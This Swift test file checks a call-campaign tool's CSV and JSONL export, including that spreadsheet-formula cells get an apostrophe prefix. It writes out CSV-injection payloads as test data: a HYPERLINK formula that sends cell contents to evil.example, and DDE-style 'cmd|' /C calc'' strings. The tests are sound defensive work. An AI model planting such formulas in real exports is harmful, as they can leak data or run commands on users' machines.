@testable import CallSpool
@testable import CallSpoolCore
@testable import CallSpoolPostgres
@testable import CallSpoolSQLite
@testable import CallSpoolCLI
import Foundation
import Testing

@Suite struct CampaignExportTests {
    @Test(arguments: [
        ("plain", "plain"),
        ("", ""),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("line1\nline2", "\"line1\nline2\""),
        ("cr\r", "\"cr\r\""),
        ("\"", "\"\"\"\""),
        ("中文 ok", "中文 ok"),
    ])
    func csvFieldQuoting(input: String, expected: String) {
        #expect(CSV.field(input) == expected)
    }

    /// OWASP's rule: a cell a spreadsheet would read as a formula starts with `'`.
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+8613800000001", "'+8613800000001"),
        ("+86138****0001", "'+86138****0001"),
        ("-1", "'-1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\"'\r=1\""),
        ("a=1", "a=1"),
        ("1-2", "1-2"),
        (" =1", " =1"),
    ])
    func csvFormulaCellsArePrefixed(input: String, expected: String) {
        #expect(CSV.field(input) == expected)
    }

    @Test func csvExportOfFormulaIdsIsInert() throws {
        let database = try AppDatabase.inMemory()
        let ids = ["=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(A1:A9)", "-cmd", "+1"]
        let specs = ids.map {
            JobSpec(
                id: $0, type: .notify, campaign: "=c", calleeNbr: "+8613800000001", displayNbr: "+8675528000088",
                payload: .notify(playInfoList: [.init(notifyVoice: "a.wav")]), meta: nil)
        }
        _ = try database.insertJobs(specs, intakeKey: "k", sourceFile: "f.json", policy: IntakePolicy(), now: Date(timeIntervalSince1970: 1_800_000_000))
        var text = ""
        try CampaignExport(database: database, campaign: "=c", format: .csv).write { text += $0 }
        let records = Self.parseCSV(text).dropFirst()
        #expect(records.map { $0[0] } == ids.map { "'" + $0 })
        #expect(records.allSatisfy { $0[2] == "'+8613800000001" })
        for record in records {
            for cell in record { #expect(!cell.hasPrefix("=") && !cell.hasPrefix("+") && !cell.hasPrefix("-") && !cell.hasPrefix("@"), "\(record)") }
        }
    }

    @Test func csvRecordEndsWithCRLF() {
        #expect(CSV.record(["a", "b,c", ""]) == "a,\"b,c\",\r\n")
    }

    /// Jobs `j0…j(n-1)` in campaign `c1`, plus one job of another campaign.
    static func store(jobs n: Int) throws -> AppDatabase {
        let database = try AppDatabase.inMemory()
        func spec(_ id: String, campaign: String, meta: String?) -> JobSpec {
            JobSpec(
                id: id, type: .notify, campaign: campaign, calleeNbr: "+8613800000001", displayNbr: "+8675528000088",
                payload: .notify(playInfoList: [.init(notifyVoice: "a.wav")]), meta: meta)
        }
        let specs = (0..<n).map { spec("j\($0)", campaign: "c1", meta: #"{"note":"a, \"quoted\"\nvalue","n":\#($0)}"#) }
        let now = Date(timeIntervalSince1970: 1_800_000_000)
        _ = try database.insertJobs(specs, intakeKey: "k1", sourceFile: "c1.json", policy: IntakePolicy(), now: now)
        _ = try database.insertJobs([spec("other", campaign: "c2", meta: nil)], intakeKey: "k2", sourceFile: "c2.json", policy: IntakePolicy(), now: now)
        return database
    }

    @Test func csvPagesOverMoreThanOnePage() throws {
        let database = try Self.store(jobs: 7)
        var chunks: [String] = []
        let count = try CampaignExport(database: database, campaign: "c1", format: .csv, pageSize: 3).write { chunks.append($0) }
        #expect(count == 7)
        #expect(chunks.count == 1 + 3)  // header + pages of 3, 3, 1
        let text = chunks.joined()
        #expect(text.hasPrefix("id,type,calleeNbr,displayNbr,state,outcome,stateCode,stateDesc,digits,attempts,errorCode,errorDescription,createdAt,updatedAt,finishedAt,meta,billedMinutes,cost,currency\r\n"))
        let records = Self.parseCSV(text)
        #expect(records.count == 8)
        #expect(records.dropFirst().map { $0[0] } == (0..<7).map { "j\($0)" })
        #expect(records.allSatisfy { $0.count == ExportRow.csvHeader.count })
        let first = records[1]
        #expect(first[2] == "'+8613800000001", "a leading + is a formula to a spreadsheet")
        #expect(first[4] == "queued")
        #expect(first[12] == "2027-01-15T08:00:00Z")
        let meta = try JSONSerialization.jsonObject(with: Data(first[15].utf8)) as? [String: Any]
        #expect(meta?["note"] as? String == "a, \"quoted\"\nvalue")
    }

    @Test func exactPageMultipleEndsCleanly() throws {
        let database = try Self.store(jobs: 4)
        var chunks: [String] = []
        let count = try CampaignExport(database: database, campaign: "c1", format: .jsonl, pageSize: 2).write { chunks.append($0) }
        #expect(count == 4)
        #expect(chunks.count == 2)
    }

    @Test func jsonlHasEveryKeyOnEveryLine() throws {
        let database = try Self.store(jobs: 3)
        var text = ""
        try CampaignExport(database: database, campaign: "c1", format: .jsonl, pageSize: 2).write { text += $0 }
        let lines = text.split(separator: "\n")
        #expect(lines.count == 3)
        for line in lines {
            let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
            #expect(Set(object.keys) == [
                "id", "type", "calleeNbr", "displayNbr", "state", "outcome", "stateCode", "stateDesc", "digits", "attempts", "error",
                "createdAt", "updatedAt", "finishedAt", "meta", "billedMinutes", "cost",
            ])
            #expect(object["error"] is NSNull)
            #expect((object["meta"] as? [String: Any])?["note"] != nil)
        }
    }

    @Test func unknownCampaignIsReported() throws {
        let database = try Self.store(jobs: 1)
        #expect(try database.campaignExists("c1"))
        #expect(try !database.campaignExists("nope"))
    }

    /// A minimal RFC 4180 reader for the assertions.
    static func parseCSV(_ text: String) -> [[String]] {
        var records: [[String]] = []
        var record: [String] = []
        var field = ""
        var quoted = false
        var chars = Array(text)[...]
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" { field.append("\""); chars.removeFirst() } else { quoted = false }
                } else {
                    field.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                record.append(field); field = ""
            } else if c == "\r\n" || c == "\n" {
                record.append(field); field = ""
                records.append(record); record = []
            } else {
                field.append(c)
            }
        }
        return records
    }
}
